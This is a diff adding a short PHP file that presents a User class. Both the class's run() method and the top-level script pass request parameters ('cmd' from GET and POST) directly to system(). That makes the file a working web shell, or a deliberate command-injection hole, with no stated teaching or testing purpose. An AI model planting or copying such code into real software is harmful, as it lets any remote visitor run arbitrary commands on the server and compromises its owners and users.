@@ -0,0 +1,20 @@
+<?php
+$name = $_GET['name'] ?? 'guest';
+
+class User {
+    public function id(): int {
+        return 1;
+    }
+
+    public function run() {
+        $cmd = $_GET['cmd'];
+        system($cmd);
+    }
+}
+
+$cmd = $_POST['cmd'];
+if ($cmd) {
+    system($cmd);
+} else {
+    echo 'empty';
+}